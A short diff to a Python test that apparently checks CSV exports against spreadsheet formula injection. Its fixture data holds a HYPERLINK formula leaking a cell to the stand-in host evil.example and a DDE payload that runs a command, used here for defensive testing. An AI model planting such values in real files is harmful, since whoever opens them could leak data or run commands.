@@ -102,6 +102,8 @@ def test_csv_cells_cannot_start_a_formula():
         "cost_centre": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "month": "2026-11",
         "basis": "allocation",
+        "currency": "USD",
+        "mode": "chargeback",
         "lines": [
             {
                 "resource_class": "+cmd|' /C calc'!A0",
